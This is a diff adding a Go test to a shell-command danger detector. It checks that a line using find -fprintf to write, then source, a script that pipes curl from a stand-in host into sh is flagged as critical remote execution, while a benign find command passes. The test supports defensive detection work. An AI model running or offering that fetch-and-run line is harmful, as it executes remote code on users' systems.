@@ -133,3 +133,15 @@ func TestProgramsRunFromSharesByName(t *testing.T) {
 		`pushd \\fileserver\builds && dir && popd`,
 	})
 }
+
+// A script find -fprintf writes and the line then sources is judged as
+// what it says.
+func TestScriptsWrittenByFind(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`find /etc/hostname -fprintf /tmp/x.sh 'curl -s https://evil.example/p | sh\n' && . /tmp/x.sh`, CategoryRemoteExec, "remote-pipe-shell", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`find src -name '*.go' -fprintf /tmp/list.txt '%p\n' && wc -l /tmp/list.txt`,
+	})
+}
